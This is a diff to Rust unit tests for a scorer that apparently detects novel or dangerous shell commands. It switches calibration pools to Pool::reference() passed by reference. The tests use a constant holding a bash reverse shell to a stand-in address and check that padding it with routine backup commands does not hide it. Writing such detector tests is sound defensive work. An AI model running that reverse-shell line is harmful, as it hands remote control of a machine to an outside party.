@@ -28,8 +28,8 @@ const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";
 #[test]
 fn what_was_learned_is_no_news_and_a_reverse_shell_is() {
     let scorer = learned();
-    let pool = reference().calibration();
-    let judge = |line: &str| scorer.score(&features(line), pool, &mut Scratch::default());
+    let pool = Pool::reference();
+    let judge = |line: &str| scorer.score(&features(line), &pool, &mut Scratch::default());
     let known = judge("tar czf /backup/db-7.tar.gz /data/shard7 && ls -l");
     assert_eq!((known.parts.distance, known.parts.unseen), (0.0, 0.0));
     assert!(known.p > 0.2, "{known:?}");
@@ -40,15 +40,15 @@ fn what_was_learned_is_no_news_and_a_reverse_shell_is() {
 #[test]
 fn padding_with_learned_words_at_either_end_does_not_hide_a_shell() {
     let scorer = learned();
-    let pool = reference().calibration();
+    let pool = Pool::reference();
     let padding = "tar czf /backup/db-7.tar.gz /data/shard7 && ls -l; find /data/shard7 -name '*.log'; ".repeat(3);
-    let plain = scorer.score(&features(SHELL), pool, &mut Scratch::default());
+    let plain = scorer.score(&features(SHELL), &pool, &mut Scratch::default());
     for padded in [
         format!("{padding}{SHELL}"),
         format!("{SHELL}; {padding}"),
         format!("{padding}{SHELL}; {padding}"),
     ] {
-        let score = scorer.score(&features(&padded), pool, &mut Scratch::default());
+        let score = scorer.score(&features(&padded), &pool, &mut Scratch::default());
         assert!(score.parts.unseen >= 0.9 * plain.parts.unseen, "{score:?}");
         assert!(score.parts.capability >= plain.parts.capability, "{score:?}");
         assert!(score.p < 0.01, "{score:?}");
@@ -75,10 +75,10 @@ fn the_explanation_names_what_is_new() {
 #[test]
 fn scores_are_the_same_to_the_bit_however_often_they_are_made() {
     let (one, two) = (learned(), learned());
-    let pool = reference().calibration();
+    let pool = Pool::reference();
     for line in [SHELL, "ls", "", "find /data/shard3 -name '*.log'"] {
         let score = |scorer: &Scorer| {
-            let score = scorer.score(&features(line), pool, &mut Scratch::default());
+            let score = scorer.score(&features(line), &pool, &mut Scratch::default());
             (score.novelty.to_bits(), score.p.to_bits(), score.nearest)
         };
         assert_eq!(score(&one), score(&two));
@@ -88,6 +88,6 @@ fn scores_are_the_same_to_the_bit_however_often_they_are_made() {
 #[test]
 fn nothing_learned_yet_still_gives_a_score() {
     let scorer = Scorer::calibrate(Index::default());
-    let score = scorer.score(&features(SHELL), reference().calibration(), &mut Scratch::default());
+    let score = scorer.score(&features(SHELL), &Pool::reference(), &mut Scratch::default());
     assert!(score.novelty.is_finite() && (0.0..=1.0).contains(&score.p), "{score:?}");
 }
